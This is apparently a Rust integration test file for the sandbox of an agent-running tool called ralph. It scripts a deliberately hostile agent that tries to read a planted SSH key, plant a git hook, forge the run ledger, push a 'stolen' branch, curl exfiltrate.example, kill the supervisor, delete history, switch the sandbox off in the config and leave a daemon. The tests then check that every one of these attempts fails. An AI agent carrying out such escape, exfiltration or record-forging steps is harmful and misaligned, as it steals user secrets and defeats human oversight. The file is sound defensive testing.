//! `--sandbox fs|strict` (issue 22): a hostile agent in bubblewrap cannot write outside the
//! worktree, read the user's keys, forge ralph's books, push, reach a host off the allowlist,
//! signal ralph or leave a daemon; the process-tree cases hold inside the sandbox; a token the
//! agent refreshes in its state directory is there afterwards; a sandbox that cannot be built
//! stops the run before the first iteration.
//!
//! bwrap comes from `scripts/install-test-deps.sh` (Debian's `bubblewrap`). Without a working
//! bwrap these tests fail under `CI=true`, and say they were skipped otherwise.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde_json::{json, Value};

use crate::common::{prd_with_stories, text, TestEnv};
use crate::fault_injection::wait_no_processes;

/// The fake private key planted in the test's HOME.
const FAKE_KEY: &str = "FAKE-ED25519-KEY-3f9c2a7d-never-print-me";

/// Whether bwrap can build a sandbox here: `true` to go on; `false` (printed) to skip outside
/// CI. Panics under CI, naming the install script.
pub(crate) fn bwrap_or_skip(test: &str) -> bool {
    let works = std::process::Command::new("bwrap")
        .args([
            "--ro-bind",
            "/",
            "/",
            "--unshare-pid",
            "--unshare-net",
            "--",
            "true",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    if works {
        return true;
    }
    assert!(
        !crate::support_model::in_ci(),
        "{test} needs bubblewrap (`bwrap`) able to build a sandbox: run scripts/install-test-deps.sh"
    );
    eprintln!("skipping {test}: bubblewrap (`bwrap`) is missing or cannot build a sandbox here (run scripts/install-test-deps.sh)");
    false
}

/// A loopback HTTP server that stands in for the internet: counts the connections it gets.
fn loopback_server() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    std::thread::spawn(move || {
        for mut conn in listener.incoming().flatten() {
            h.fetch_add(1, Ordering::SeqCst);
            let mut buf = [0u8; 1024];
            let _ = conn.set_read_timeout(Some(Duration::from_millis(200)));
            let _ = conn.read(&mut buf);
            let _ = conn.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\nleaked");
        }
    });
    (port, hits)
}

/// The hostile agent: every attempt prints what happened, then it does the story's work.
fn hostile_script(port: u16) -> String {
    format!(
        r#"#!/bin/bash
echo "attempt home: $(echo x > "$HOME/x" 2>&1 && echo wrote)"
echo "attempt etc: $(echo x > /etc/ralph-sandbox-test-x 2>&1 && echo wrote)"
echo "attempt key: $(cat "$HOME/.ssh/id_ed25519" 2>&1)"
echo "attempt ledger: $(echo '{{"forged":true}}' >> .ralph/ledger.jsonl 2>&1 && echo wrote)"
echo "attempt state: $(sed -i 's/"iteration"/"forged"/' .ralph/state.json 2>&1 && echo wrote)"
echo "attempt hook: $(echo 'cat ~/.ssh/id_ed25519' > .git/hooks/post-commit 2>&1 && echo wrote)"
echo "attempt push: $(git push -q origin HEAD:refs/heads/stolen 2>&1 && echo PUSH-SUCCEEDED)"
echo "attempt net direct: $(curl -s --noproxy '*' --max-time 3 http://127.0.0.1:{port}/ 2>&1)"
echo "attempt net proxy: $(curl -s --noproxy '' --max-time 3 -x http://127.0.0.1:3128 http://127.0.0.1:{port}/ 2>&1)"
echo "attempt net name: $(curl -s --max-time 3 http://exfiltrate.example/ 2>&1)"
echo "attempt kill: $(kill -KILL "$RALPH_VICTIM_PID" 2>&1 && echo KILL-SUCCEEDED)"
echo "attempt history: $(find .git/objects -type f ! -path '*/info/*' -delete 2>&1 && echo wrote)"
echo "attempt alternates: $(echo /tmp > .git/objects/info/alternates 2>&1 && echo wrote)"
echo "attempt config: $(echo 'sandbox = "off"' >> ralph.toml 2>&1 && echo wrote)"
ln -sf "$RALPH_TEST_HOST_KEY" progress.txt
echo "attempt link: $(readlink progress.txt)"
setsid nohup sleep 300 >/dev/null 2>&1 &
echo "attempt daemon: left"
echo done > done.txt
echo "attempt commit: $(git add done.txt && git -c user.name=agent -c user.email=agent@example.com commit -qm 'agent: done.txt' 2>&1 && echo committed)"
python3 - <<'PY'
import json
p = json.load(open("prd.json"))
p["userStories"][0]["passes"] = True
open("prd.json", "w").write(json.dumps(p, indent=2) + "\n")
PY
"#
    )
}

/// Runs the hostile agent under `--sandbox mode` and checks that every attempt failed.
fn hostile_run(mode: &str) {
    let mut prd = prd_with_stories(1);
    prd["userStories"][0]["verify"] = json!("test -f done.txt");
    let env = TestEnv::new(&prd);
    std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir .ssh");
    std::fs::write(env.home.join(".ssh/id_ed25519"), format!("{FAKE_KEY}\n")).expect("key");
    let bare = env.root.path().join("remote.git");
    let init = std::process::Command::new("git")
        .args(["init", "-q", "--bare"])
        .arg(&bare)
        .status()
        .expect("git init --bare");
    assert!(init.success());
    env.git(&["remote", "add", "origin", &bare.display().to_string()]);
    // The user's settings, which the agent may not change (an agent that could write
    // `sandbox = "off"` there would run unconfined from the next run on).
    env.write("ralph.toml", "# the user's settings\n");
    env.git(&["add", "ralph.toml"]);
    env.git(&["commit", "-qm", "settings"]);
    let commits_before = env.git(&["rev-list", "--count", "HEAD"]);
    let (port, hits) = loopback_server();
    let agent = env.root.path().join("hostile.sh");
    std::fs::write(&agent, hostile_script(port)).expect("agent");
    std::fs::set_permissions(&agent, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    // `exec` keeps the shell's pid: ralph's own pid reaches the agent as RALPH_VICTIM_PID.
    let line = format!(
        "export RALPH_VICTIM_PID=$$; exec {} run --agent exec --agent-cmd {} --sandbox {mode} --max-iter 1 -v",
        crate::common::ralph_bin(),
        agent.display()
    );
    let out = std::process::Command::new("sh")
        .args(["-c", &line])
        .current_dir(&env.repo)
        .env_clear()
        .envs(env.envs())
        .env("RALPH_GIT_TOKEN", "push-token-never-inside")
        // The host path of the planted key: a link to it at progress.txt must not make ralph,
        // outside the sandbox, read it into a prompt or append to it.
        .env(
            "RALPH_TEST_HOST_KEY",
            env.home.join(".ssh/id_ed25519").display().to_string(),
        )
        .output()
        .expect("run ralph");
    let all = text(&out);
    let left = wait_no_processes(&env.script, Duration::from_secs(3));
    // Whatever happened, nothing of this test keeps running.
    for (pid, _) in &left {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(*pid),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    let _ = std::fs::remove_file("/etc/ralph-sandbox-test-x");
    assert_eq!(
        out.status.code(),
        Some(0),
        "ralph survived and finished: {all}"
    );
    assert!(
        all.lines()
            .any(|l| l.trim_start().starts_with("sandbox") && l.contains(mode)),
        "the run header names the sandbox: {all}"
    );
    let attempts = [
        "home",
        "etc",
        "ledger",
        "state",
        "hook",
        "history",
        "alternates",
        "config",
    ];
    // Each line the agent printed comes after ralph's prefix: it may start anywhere in a line.
    assert_attempts(&all, &attempts, false, &all, |attempt, shown| {
        !shown.ends_with("wrote") || attempt == "home"
    });
    assert!(
        !env.home.join("x").exists(),
        "the agent wrote into the host's HOME: {all}"
    );
    assert!(!Path::new("/etc/ralph-sandbox-test-x").exists(), "{all}");
    assert!(!env.path(".git/hooks/post-commit").exists(), "{all}");
    // The history is whole: every commit from before the run, the agent's own commit (its
    // objects moved into the history) and ralph's checkpoint, and git finds no fault.
    assert!(all.contains("attempt commit: committed"), "{all}");
    let fsck = std::process::Command::new("git")
        .args(["fsck", "--no-dangling"])
        .current_dir(&env.repo)
        .output()
        .expect("git fsck");
    assert!(fsck.status.success(), "git fsck: {}", text(&fsck));
    let commits_after = env.git(&["rev-list", "--count", "HEAD"]);
    let (before, after): (u32, u32) = (
        commits_before.trim().parse().expect("count"),
        commits_after.trim().parse().expect("count"),
    );
    assert!(after >= before + 2, "{before} → {after} commits: {all}");
    assert!(env.git(&["log", "--format=%s"]).contains("agent: done.txt"));
    assert_eq!(env.read("ralph.toml"), "# the user's settings\n");
    // ralph did not follow the agent's link at progress.txt, nor write through it.
    assert_eq!(
        std::fs::read_to_string(env.home.join(".ssh/id_ed25519")).expect("key"),
        format!("{FAKE_KEY}\n")
    );
    assert!(
        !std::fs::symlink_metadata(env.path("progress.txt"))
            .expect("progress.txt")
            .file_type()
            .is_symlink(),
        "{all}"
    );
    assert!(
        !all.contains("PUSH-SUCCEEDED") && !all.contains("KILL-SUCCEEDED"),
        "{all}"
    );
    // The key is nowhere: not in the output, the ledger or the transcripts.
    assert!(
        !all.contains(FAKE_KEY),
        "the fake key leaked to the output: {all}"
    );
    let books = walk_text(&env.path(".ralph"));
    assert!(
        !books.contains(FAKE_KEY),
        "the fake key is in ralph's books"
    );
    assert!(
        !books.contains("push-token-never-inside"),
        "the push token reached the agent"
    );
    // The books are intact: one record, written by ralph, for this sandbox mode.
    let ledger = env.ledger();
    assert_eq!(ledger.len(), 1, "{ledger:?}");
    assert!(!env.read(".ralph/ledger.jsonl").contains("forged"));
    assert!(!env.read(".ralph/state.json").contains("forged"));
    assert_eq!(ledger[0]["outcome"], "story_passed", "{all}");
    assert_eq!(ledger[0]["sandbox"], mode, "{:?}", ledger[0]);
    // Nothing reached the remote.
    let refs = std::process::Command::new("git")
        .args(["--git-dir", &bare.display().to_string(), "for-each-ref"])
        .output()
        .expect("for-each-ref");
    assert!(
        refs.stdout.is_empty(),
        "the agent pushed: {}",
        String::from_utf8_lossy(&refs.stdout)
    );
    assert!(
        left.is_empty(),
        "processes outlived the iteration: {left:?}"
    );
    if mode == "strict" {
        assert_eq!(
            hits.load(Ordering::SeqCst),
            0,
            "the loopback server was reached: {all}"
        );
        let refused: Vec<&str> = ledger[0]["refused_hosts"]
            .as_array()
            .map(|a| a.iter().filter_map(Value::as_str).collect())
            .unwrap_or_default();
        assert!(
            refused.contains(&"exfiltrate.example:80")
                && refused.contains(&format!("127.0.0.1:{port}").as_str()),
            "refused connections are named in the record: {refused:?}"
        );
        let show = text(&env.ralph(&["show", "1"]));
        assert!(
            show.lines()
                .any(|l| l.contains("refused connections:") && l.contains("exfiltrate.example:80")),
            "`ralph show` names the refused host: {show}"
        );
        let report = text(&env.ralph(&["report", "--markdown"]));
        assert!(
            report.contains("### Refused connections") && report.contains("exfiltrate.example:80"),
            "the report lists the refused hosts: {report}"
        );
    }
}

/// Checks, for each probe of `attempts`, the line of `lines` that reports it (`attempt <probe>:
/// …`): at the start of a line when `at_start`, else anywhere in one (where ralph's prefix comes
/// first). A probe with no such line, or whose line fails `holds(probe, line)`, fails the test
/// with `context` in its message.
fn assert_attempts(
    lines: &str,
    attempts: &[&str],
    at_start: bool,
    context: &str,
    holds: impl Fn(&str, &str) -> bool,
) {
    for attempt in attempts {
        let tag = format!("attempt {attempt}:");
        let shown = lines
            .lines()
            .find(|l| {
                if at_start {
                    l.starts_with(&tag)
                } else {
                    l.contains(&tag)
                }
            })
            .unwrap_or_else(|| panic!("no `attempt {attempt}` line: {context}"));
        assert!(holds(attempt, shown), "{shown}\n{context}");
    }
}

/// Every text file under `dir`, concatenated.
fn walk_text(dir: &Path) -> String {
    let mut all = String::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            all.push_str(&walk_text(&path));
        } else if let Ok(t) = std::fs::read_to_string(&path) {
            all.push_str(&t);
        }
    }
    all
}

#[test]
fn a_hostile_agent_is_contained_by_sandbox_fs() {
    if bwrap_or_skip("a_hostile_agent_is_contained_by_sandbox_fs") {
        hostile_run("fs");
    }
}

#[test]
fn a_hostile_agent_is_contained_by_sandbox_strict() {
    if bwrap_or_skip("a_hostile_agent_is_contained_by_sandbox_strict") {
        hostile_run("strict");
    }
}

/// The agent (the fake claude) refreshes its token in `~/.claude` inside the sandbox: the host's
/// copy has the new token after the iteration.
#[test]
fn a_token_refreshed_in_the_state_directory_survives_the_iteration() {
    if !bwrap_or_skip("a_token_refreshed_in_the_state_directory_survives_the_iteration") {
        return;
    }
    let env = TestEnv::new(&prd_with_stories(1));
    std::fs::create_dir_all(env.home.join(".claude")).expect("mkdir");
    std::fs::write(
        env.home.join(".claude/.credentials.json"),
        "{\"token\":\"old\"}\n",
    )
    .expect("credentials");
    let creds = env
        .home
        .join(".claude/.credentials.json")
        .display()
        .to_string();
    env.script(&json!({"invocations": [[
        {"claude_init": {}},
        {"write_file": {"path": creds, "content": "{\"token\":\"refreshed\"}\n"}},
        {"write_file": {"path": "file-1.txt", "content": "done\n"}},
        {"set_passes": {"id": "US-001", "passes": true}},
        {"claude_result": {"text": "done"}}
    ]]}));
    let root = env.root.path().display().to_string();
    let out = env.ralph(&[
        "run",
        "--max-iter",
        "1",
        "--sandbox",
        "fs",
        "--sandbox-writable",
        &root,
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert_eq!(
        std::fs::read_to_string(env.home.join(".claude/.credentials.json")).expect("read"),
        "{\"token\":\"refreshed\"}\n",
        "the refreshed token must land on the host's copy"
    );
    assert_eq!(env.ledger()[0]["sandbox"], "fs");
}

/// A sandbox that cannot be built (no bwrap on PATH) stops the run before the first iteration,
/// saying why; the agent never runs unsandboxed.
#[test]
fn a_sandbox_that_cannot_be_built_stops_the_run_before_the_agent() {
    let env = TestEnv::new(&prd_with_stories(1));
    env.script(&json!({"invocations": [[{"claude_result": {"text": "ran"}}]]}));
    let out = env
        .ralph_cmd(&["run", "--max-iter", "1", "--sandbox", "strict"])
        .env("PATH", path_without_bwrap(&env))
        .output()
        .expect("ralph");
    let all = text(&out);
    assert_eq!(out.status.code(), Some(1), "{all}");
    assert!(
        all.contains("--sandbox strict cannot be built")
            && all.contains("bubblewrap (`bwrap`) is not installed"),
        "{all}"
    );
    assert_eq!(env.agent_calls(), 0, "the agent ran: {all}");
    assert!(env.ledger().is_empty());
}

fn which_git() -> std::path::PathBuf {
    for dir in ["/usr/bin", "/usr/local/bin", "/bin"] {
        let p = Path::new(dir).join("git");
        if p.exists() {
            return p;
        }
    }
    panic!("git not found");
}

/// A PATH with the fake agents and git (linked into `gitonly/` beside the repository) but no
/// bwrap.
fn path_without_bwrap(env: &TestEnv) -> String {
    let git_dir = env.root.path().join("gitonly");
    std::fs::create_dir_all(&git_dir).expect("mkdir");
    std::os::unix::fs::symlink(which_git(), git_dir.join("git")).expect("symlink git");
    format!("{}:{}", env.bin.display(), git_dir.display())
}

/// The process-tree cases (interrupts, timeouts, grandchildren that ignore SIGTERM, hold the
/// pipe or leave with setsid) with `--sandbox fs` and `strict`: same exit codes, same records,
/// no survivor.
#[test]
fn process_trees_hold_inside_the_sandbox() {
    if !bwrap_or_skip("process_trees_hold_inside_the_sandbox") {
        return;
    }
    let seed = fastrand::u64(..);
    let mut failures = Vec::new();
    for n in 0..10u64 {
        let mode = if n % 2 == 0 { "fs" } else { "strict" };
        if let Err(e) = crate::process_trees::run_case_in(seed, n, Some(mode)) {
            failures.push(format!("case {n} ({mode}, RALPH_TREES_SEED={seed}): {e}"));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// The textkit stories pass with `--sandbox strict` as without it, with the real claude CLI
/// against the scripted model on the host's loopback (reached through the allowlist:
/// `ANTHROPIC_BASE_URL`'s host).
#[test]
fn real_claude_passes_the_textkit_stories_under_sandbox_strict() {
    let test = "real_claude_passes_the_textkit_stories_under_sandbox_strict";
    if !bwrap_or_skip(test) {
        return;
    }
    let Some(claude) = crate::support_model::claude_bin_or_skip(test) else {
        return;
    };
    let fx = crate::real_claude::Fixture::textkit();
    let scenario = crate::support_model::example_dir("textkit").join("scenario.json");
    let out = fx.ralph_with_model(
        &claude,
        &["--max-iter", "6", "--sandbox", "strict"],
        &scenario,
        "ralph",
    );
    assert_textkit_passed_strict(&out, &fx.prd_passes(), &fx.ledger());
}

/// The same with the real codex CLI (its base URL comes from `$CODEX_HOME/config.toml`).
#[test]
fn real_codex_passes_the_textkit_stories_under_sandbox_strict() {
    let test = "real_codex_passes_the_textkit_stories_under_sandbox_strict";
    if !bwrap_or_skip(test) {
        return;
    }
    let Some(codex) = crate::support_model::real_cli_or_skip("codex", test) else {
        return;
    };
    let fx = crate::real_codex::Fixture::textkit();
    let scenario = crate::support_model::example_dir("textkit").join("scenario.json");
    let out = fx.ralph_with_model(
        &codex,
        &[
            "run",
            "--agent",
            "codex",
            "--max-iter",
            "6",
            "--sandbox",
            "strict",
        ],
        &scenario,
        "ralph",
    );
    let ledger = crate::support_model::read_jsonl(&fx.repo.join(".ralph/ledger.jsonl"));
    assert_textkit_passed_strict(&out, &fx.prd_passes(), &ledger);
}

/// A real CLI's textkit run under `--sandbox strict` exited 0, every story of prd.json passes
/// (`passes`: id, passes) and each of the three records passed in the strict sandbox.
fn assert_textkit_passed_strict(
    out: &crate::support_model::RunOutput,
    passes: &[(String, bool)],
    ledger: &[Value],
) {
    assert_eq!(out.status.and_then(|s| s.code()), Some(0), "{out}");
    assert!(passes.iter().all(|(_, p)| *p), "{passes:?}");
    assert_eq!(ledger.len(), 3, "{ledger:#?}");
    for r in ledger {
        assert_eq!(r["outcome"], "story_passed", "{r}");
        assert_eq!(r["sandbox"], "strict", "{r}");
    }
}

/// `ralph doctor` says whether bubblewrap works; a sandbox ralph.toml or `RALPH_SANDBOX` asks
/// for that cannot be built makes it NOT ready (exit 1), naming the fix.
#[test]
fn doctor_reports_whether_the_sandbox_can_be_built() {
    if !bwrap_or_skip("doctor_reports_whether_the_sandbox_can_be_built") {
        return;
    }
    let env = TestEnv::new(&prd_with_stories(1));
    let out = env
        .ralph_cmd(&["doctor", "--agent", "claude", "--json"])
        .env("RALPH_SANDBOX", "strict")
        .output()
        .expect("doctor");
    let doc: Value = serde_json::from_slice(&out.stdout).expect("doctor --json");
    assert_eq!(doc["sandbox"]["configured"], "strict", "{doc}");
    assert!(
        doc["sandbox"]["bwrap"]
            .as_str()
            .is_some_and(|p| p.ends_with("bwrap")),
        "{doc}"
    );
    assert!(doc["sandbox"]["error"].is_null(), "{doc}");

    let out = env
        .ralph_cmd(&["doctor", "--agent", "claude"])
        .env("RALPH_SANDBOX", "fs")
        .env("PATH", path_without_bwrap(&env))
        .output()
        .expect("doctor");
    let all = text(&out);
    assert_eq!(out.status.code(), Some(1), "{all}");
    assert!(
        all.contains("bubblewrap (`bwrap`) is not installed")
            && all.contains("apt-get install bubblewrap"),
        "{all}"
    );
    assert!(all.contains("NOT ready"), "{all}");
}

/// The shell step of a scripted agent that marks `$story` passing in its tree's prd.json.
const MARK_PASSING: &str = r#"python3 - "$story" <<'PY'
import json, sys
p = json.load(open("prd.json"))
for s in p["userStories"]:
    if s["id"] == sys.argv[1]:
        s["passes"] = True
open("prd.json", "w").write(json.dumps(p, indent=2) + "\n")
PY"#;

/// A PRD of `n` stories of [`prd_with_stories`]' shape whose story `i` (from 1) checks with
/// `verify(i)`.
fn prd_checking(n: usize, verify: impl Fn(usize) -> String) -> Value {
    let mut prd = prd_with_stories(n);
    for (i, s) in prd["userStories"]
        .as_array_mut()
        .expect("stories")
        .iter_mut()
        .enumerate()
    {
        s["verify"] = json!(verify(i + 1));
    }
    prd
}

/// Where the agents meet: `meet/` beside the repository, the only folder outside their trees
/// they may write (`--sandbox-writable`).
fn meeting_place(env: &TestEnv) -> PathBuf {
    let meet = env.root.path().join("meet");
    std::fs::create_dir_all(&meet).expect("mkdir meet");
    meet
}

/// `ralph run --parallel 2 --sandbox fs --sandbox-writable <meet>` with the exec agent `agent`
/// and `--max-iter <max_iter>`, the main checkout's path in `RALPH_TEST_MAIN`, to its end.
fn run_two_workers_in_fs(env: &TestEnv, meet: &Path, agent: &Path, max_iter: u32) -> Output {
    let meet_arg = meet.display().to_string();
    let agent_arg = agent.display().to_string();
    let max_iter = max_iter.to_string();
    env.ralph_cmd(&[
        "run",
        "--parallel",
        "2",
        "--sandbox",
        "fs",
        "--sandbox-writable",
        &meet_arg,
        "--agent",
        "exec",
        "--agent-cmd",
        &agent_arg,
        "--max-iter",
        &max_iter,
    ])
    .env("RALPH_TEST_MAIN", env.repo.display().to_string())
    .output()
    .expect("ralph")
}

/// `--parallel 2 --sandbox fs`: each worker's worktree is its own sandbox root. The agent of
/// US-001, while US-002's worker is in flight, tries to write the main checkout, the other
/// worker's worktree and its git directory, the run's ledger, and the refs of `main`, another
/// branch and the run branch: every attempt is refused (the main checkout and the other tree
/// are not even visible) and nothing of it reaches the host. Every story's honest work (its
/// file, committed on the worker's detached HEAD) lands and passes.
#[test]
fn parallel_workers_are_each_confined_to_their_own_worktree() {
    if !bwrap_or_skip("parallel_workers_are_each_confined_to_their_own_worktree") {
        return;
    }
    let env = TestEnv::new(&prd_checking(3, |i| format!("test -f file-{i}.txt")));
    env.git(&["branch", "other"]);
    let main_before = env.git(&["rev-parse", "refs/heads/main"]);
    let other_before = env.git(&["rev-parse", "refs/heads/other"]);
    let meet = meeting_place(&env);
    let body = format!(
        r#"meet='{meet}'
main="$RALPH_TEST_MAIN"
story=$(sed -n 's/^Story ID: //p' | head -n 1)
n=${{story#US-00}}
echo "$PWD" > "$meet/$story.pwd.tmp" && mv "$meet/$story.pwd.tmp" "$meet/$story.pwd"
wait_for() {{ for _ in $(seq 600); do [ -f "$1" ] && return 0; sleep 0.1; done; return 1; }}
if [ "$story" = US-001 ]; then
  wait_for "$meet/US-002.pwd" || echo "attempt wait: US-002 never started" >> "$meet/attempts"
  other=$(cat "$meet/US-002.pwd")
  sha=$(git rev-parse HEAD)
  try() {{ if said=$( (eval "$2") 2>&1 ); then echo "attempt $1: wrote"; else echo "attempt $1: refused: $said" | tr '\n' ' '; echo; fi; }}
  {{
  try main 'echo x > "$main/hostile.txt"'
  try "main prd" 'echo x >> "$main/prd.json"'
  try "other tree" 'echo x > "$other/hostile.txt"'
  try "other list" 'ls -A "$other" | grep -q prd.json'
  try ledger 'echo "{{\"forged\":true}}" >> "$main/.ralph/ledger.jsonl"'
  try state 'echo "{{}}" > "$main/.ralph/state.json"'
  try "main ref" 'git update-ref refs/heads/main "$sha"'
  try "other ref" 'git update-ref refs/heads/other "$sha"'
  try "run ref" 'git update-ref refs/heads/ralph/demo "$sha"'
  try "ref file" 'echo "$sha" > "$main/.git/refs/heads/other"'
  try "new ref" 'git update-ref refs/heads/stolen "$sha"'
  try "other head" 'echo "$sha" > "$main/.git/worktrees/$(basename "$other")/HEAD"'
  try hook 'echo "echo hooked" > "$main/.git/hooks/post-commit"'
  }} >> "$meet/attempts"
  touch "$meet/attacked"
elif [ "$story" = US-002 ]; then
  # In flight for the whole attack.
  wait_for "$meet/attacked"
fi
echo "$n" > "file-$n.txt"
{mark_passing}
echo "add $story: $(git add "file-$n.txt" prd.json 2>&1 && echo added)" >> "$meet/commits"
echo "commit $story: $(git -c user.name=agent -c user.email=agent@example.com commit -qm "feat: $story" 2>&1 && echo committed)" >> "$meet/commits"
"#,
        meet = meet.display(),
        mark_passing = MARK_PASSING,
    );
    let agent = crate::common::script_file(&env, "worker-agent.sh", &body);
    let out = run_two_workers_in_fs(&env, &meet, &agent, 6);
    let all = text(&out);
    let attempts = std::fs::read_to_string(meet.join("attempts")).unwrap_or_default();
    let commits = std::fs::read_to_string(meet.join("commits")).unwrap_or_default();
    let said = format!("{all}\n--- attempts\n{attempts}\n--- commits\n{commits}");
    assert_eq!(out.status.code(), Some(0), "{said}");
    let probes = [
        "main",
        "main prd",
        "other tree",
        "ledger",
        "state",
        "main ref",
        "other ref",
        "run ref",
        "ref file",
        "new ref",
        "other head",
        "hook",
        "other list",
    ];
    assert_attempts(&attempts, &probes, true, &said, |_, shown| {
        shown.contains(": refused: ")
    });
    // Nothing reached the host.
    assert!(!env.path("hostile.txt").exists(), "{said}");
    assert!(!env.path(".git/hooks/post-commit").exists(), "{said}");
    assert_eq!(env.git(&["rev-parse", "refs/heads/main"]), main_before);
    assert_eq!(env.git(&["rev-parse", "refs/heads/other"]), other_before);
    assert!(
        env.git(&["for-each-ref", "refs/heads/stolen"]).is_empty(),
        "{said}"
    );
    assert!(
        !env.read(".ralph/ledger.jsonl").contains("forged"),
        "{said}"
    );
    // Every story's work was committed in its worker's tree, landed and passes.
    assert_eq!(commits.matches("committed").count(), 3, "{said}");
    let files = env.git(&["ls-tree", "--name-only", "ralph/demo"]);
    for i in 1..=3 {
        assert!(files.contains(&format!("file-{i}.txt")), "{files}\n{said}");
    }
    assert!(!files.contains("hostile.txt"), "{files}");
    let prd = env.prd();
    for s in prd["userStories"].as_array().expect("stories") {
        assert_eq!(s["passes"], true, "{} does not pass\n{said}", s["id"]);
    }
    let ledger = env.ledger();
    assert_eq!(ledger.len(), 3, "{ledger:#?}");
    for r in &ledger {
        assert_eq!(r["outcome"], "story_passed", "{r:#}");
        assert_eq!(r["sandbox"], "fs", "{r:#}");
    }
    let fsck = std::process::Command::new("git")
        .args(["fsck", "--no-dangling"])
        .current_dir(&env.repo)
        .output()
        .expect("git fsck");
    assert!(fsck.status.success(), "git fsck: {}", text(&fsck));
}

/// `--parallel 2 --sandbox strict`: each worker's agent reaches an allowed host on the host's
/// loopback at its own address (its worker's bridge and proxy, which runs on the worker's
/// runtime while the agent runs), and a host off the allowlist is refused and named in that
/// worker's own record only.
#[test]
fn parallel_workers_under_sandbox_strict_reach_only_allowed_hosts() {
    if !bwrap_or_skip("parallel_workers_under_sandbox_strict_reach_only_allowed_hosts") {
        return;
    }
    let env = TestEnv::new(&prd_checking(2, |i| format!("grep -q leaked file-{i}.txt")));
    let (allowed, allowed_hits) = loopback_server();
    let (refused, refused_hits) = loopback_server();
    let body = format!(
        r#"story=$(sed -n 's/^Story ID: //p' | head -n 1)
n=${{story#US-00}}
curl -s --max-time 20 http://127.0.0.1:{allowed}/ > "file-$n.txt" 2>&1
if [ "$story" = US-002 ]; then curl -s --noproxy '' --max-time 5 -x http://127.0.0.1:3128 http://127.0.0.1:{refused}/ >/dev/null 2>&1; fi
{mark_passing}
git add "file-$n.txt" prd.json
git -c user.name=agent -c user.email=agent@example.com commit -qm "feat: $story" 2>/dev/null
"#,
        mark_passing = MARK_PASSING,
    );
    let agent = crate::common::script_file(&env, "net-agent.sh", &body);
    let allow = format!("127.0.0.1:{allowed}");
    let out = env.ralph(&[
        "run",
        "--parallel",
        "2",
        "--sandbox",
        "strict",
        "--allow-host",
        &allow,
        "--agent",
        "exec",
        "--agent-cmd",
        &agent.display().to_string(),
        "--max-iter",
        "4",
    ]);
    let all = text(&out);
    assert_eq!(out.status.code(), Some(0), "{all}");
    assert!(allowed_hits.load(Ordering::SeqCst) >= 2, "{all}");
    assert_eq!(refused_hits.load(Ordering::SeqCst), 0, "{all}");
    let ledger = env.ledger();
    assert_eq!(ledger.len(), 2, "{ledger:#?}");
    for r in &ledger {
        assert_eq!(r["outcome"], "story_passed", "{r:#}");
        assert_eq!(r["sandbox"], "strict", "{r:#}");
        let names: Vec<&str> = r["refused_hosts"]
            .as_array()
            .map(|a| a.iter().filter_map(Value::as_str).collect())
            .unwrap_or_default();
        let mine = r["story_id"] == "US-002";
        assert_eq!(
            names.contains(&format!("127.0.0.1:{refused}").as_str()),
            mine,
            "only US-002's record names its refused host: {r:#}"
        );
    }
}

/// Under `--parallel --sandbox fs`, the check ralph runs again on a landed story (another story
/// landed since it started) runs agent-written code too: it runs in the agent's sandbox, where
/// the main checkout is out of reach. Before, that re-check ran unsandboxed.
#[test]
fn a_parallel_landing_check_runs_in_the_sandbox() {
    if !bwrap_or_skip("a_parallel_landing_check_runs_in_the_sandbox") {
        return;
    }
    // The check also tries to leave a mark in the main checkout (it may not: it is hidden).
    let env = TestEnv::new(&prd_checking(2, |i| {
        format!(
            "touch \"$RALPH_TEST_MAIN/checked-$RALPH_STORY_ID-$$\" 2>/dev/null; test -f file-{i}.txt"
        )
    }));
    let meet = meeting_place(&env);
    let body = format!(
        r#"meet='{meet}'
story=$(sed -n 's/^Story ID: //p' | head -n 1)
n=${{story#US-00}}
wait_for() {{ for _ in $(seq 600); do [ -f "$1" ] && return 0; sleep 0.1; done; return 1; }}
touch "$meet/$story.started"
# US-002 finishes only once US-001 has landed, so its landing checks it again.
if [ "$story" = US-002 ]; then
  wait_for "$meet/US-001.started"
  for _ in $(seq 600); do git -C "$RALPH_TEST_MAIN" cat-file -e ralph/demo:file-1.txt 2>/dev/null && break; sleep 0.1; done
fi
echo "$n" > "file-$n.txt"
{mark_passing}
git add "file-$n.txt" prd.json && git -c user.name=agent -c user.email=agent@example.com commit -qm "feat: $story"
"#,
        meet = meet.display(),
        mark_passing = MARK_PASSING,
    );
    let agent = crate::common::script_file(&env, "landing-agent.sh", &body);
    let out = run_two_workers_in_fs(&env, &meet, &agent, 4);
    let all = text(&out);
    assert_eq!(out.status.code(), Some(0), "{all}");
    // US-002's landing ran its check again (two verify records: the worker's and the landing's).
    let ledger = env.ledger();
    let us2 = ledger
        .iter()
        .rfind(|r| r["story_id"] == "US-002" && r["outcome"] == "story_passed")
        .unwrap_or_else(|| panic!("US-002 never passed:\n{all}"));
    let checks = us2["verify"].as_array().map_or(0, Vec::len);
    assert!(checks >= 2, "no check at landing: {us2:#}\n{all}");
    // No check, the landing's included, reached the main checkout.
    let marks: Vec<String> = std::fs::read_dir(&env.repo)
        .expect("read the checkout")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("checked-"))
        .collect();
    assert!(
        marks.is_empty(),
        "a check wrote the main checkout: {marks:?}\n{all}"
    );
}
